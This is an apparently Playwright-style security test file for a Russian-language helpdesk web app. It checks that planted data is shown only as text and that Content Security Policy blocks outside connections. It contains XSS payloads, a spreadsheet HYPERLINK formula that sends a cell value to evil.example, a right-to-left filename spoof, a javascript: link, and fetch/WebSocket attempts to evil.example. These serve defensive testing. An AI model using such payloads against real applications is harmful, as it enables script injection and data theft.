import { alter } from './crowd.ts'
import { expect, test } from './nachalo.ts'
import { rowsOf, variantOf } from './worlds.ts'

const script =
  '<script>window.isHacked = true</script><img src="x" onerror="window.isHacked = true">'
const formula = '=HYPERLINK("https://evil.example/?"&A1;"Счёт")'
const reversed = 'счёт \u202Egnp.exe\u202C {{name}} $t(desk.close) %s'
const link = 'javascript:window.isHacked=true'

test('what strangers wrote is shown as text and carried out nowhere', async ({
  page,
  play,
  worlds,
}) => {
  const demo = await worlds.demo()
  const target = rowsOf(demo.dump, 'cases').find(
    row => row['responsibleId'] === null && row['departmentId'] === 'contact',
  )
  const caseId = target?.['caseId'] ?? null
  const world = await variantOf(worlds.workshop, demo, dump => {
    alter(
      dump,
      'cases',
      { caseId },
      {
        subject: script,
        clientName: formula,
        text: `${script}\n${reversed}\n${link}`,
        phones: JSON.stringify([link]),
        emails: JSON.stringify([script]),
        statusName: reversed,
        requiredSkill: null,
      },
    )
    alter(dump, 'employees', { employeeId: 'polyakova' }, { name: script, skills: '[]' })
    alter(dump, 'departments', { departmentId: 'first-line' }, { name: reversed })
    alter(dump, 'kinds', { kindId: target?.['kindId'] ?? null }, { name: formula })
    alter(dump, 'meta', { key: 'company' }, { value: script })
  })
  const { desk } = await play(world)
  const number = String(target?.['number'])
  await desk.inbox.search.fill(number)
  const row = desk.inbox.row(number)
  await expect(row.locator('[col-id="subject"]')).toHaveText(script)
  await expect(row.locator('[col-id="client"]')).toHaveText(formula)
  await expect(row.locator('[col-id="kind"]')).toHaveText(formula)
  await desk.inbox.open(number)
  await expect(desk.case.region.getByRole('heading', { level: 2 })).toHaveText(script)
  await expect(desk.case.region).toContainText(reversed)
  await expect(desk.case.region.getByRole('link')).toHaveCount(0)
  await desk.case.close()
  await expect(desk.team.person(script)).toBeVisible()
  await desk.drag.drop(row, desk.team.person(script))
  await expect(row).toHaveCount(0)
  await expect(desk.toast).toContainText(`№${number} → <script>window.isHacked =`)
  await desk.inbox.search.fill(script)
  await expect(desk.inbox.elsewhere).toContainText(script)
  for (const room of ['Команда', 'Синхронизация', 'Настройки'] as const) await desk.show(room)
  await expect(page.getByText(script).first()).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'isHacked'))).toBeUndefined()
  expect(await page.locator('img').count()).toBe(0)
})

test('the page may neither run what it was not built with nor speak to anybody else', async ({
  page,
  play,
  problems,
  worlds,
}) => {
  for (const what of ['policy:', 'Content Security Policy', 'Content-Security-Policy'])
    problems.expect(what)
  // A picture is asked for before the policy is asked, and stopped there.
  problems.expect('request: https://evil.example/pixel.png')
  const stopped: string[] = []
  page.on('requestfailed', request =>
    stopped.push(`${request.url()} ${request.failure()?.errorText}`),
  )
  await play(await worlds.demo())
  const outcome = await page.evaluate(async () => {
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', event =>
      violated.push(event.effectiveDirective),
    )
    const added = document.createElement('script')
    added.textContent = 'window.isHacked = true'
    document.body.append(added)
    const image = document.createElement('img')
    image.src = 'https://evil.example/pixel.png'
    document.body.append(image)
    const answer = await fetch('https://evil.example/').then(
      () => 'answered',
      () => 'refused',
    )
    const socket = await new Promise<string>(resolve => {
      try {
        new WebSocket('wss://evil.example/').addEventListener('error', () => resolve('refused'))
      } catch {
        resolve('refused')
      }
    })
    added.remove()
    image.remove()
    return {
      answer,
      socket,
      isHacked: Reflect.get(window, 'isHacked'),
      violated: violated.toSorted(),
    }
  })
  expect(outcome).toEqual({
    answer: 'refused',
    socket: 'refused',
    isHacked: undefined,
    violated: ['connect-src', 'connect-src', 'img-src', 'script-src-elem'],
  })
  await expect.poll(() => stopped).toEqual(['https://evil.example/pixel.png csp'])
})
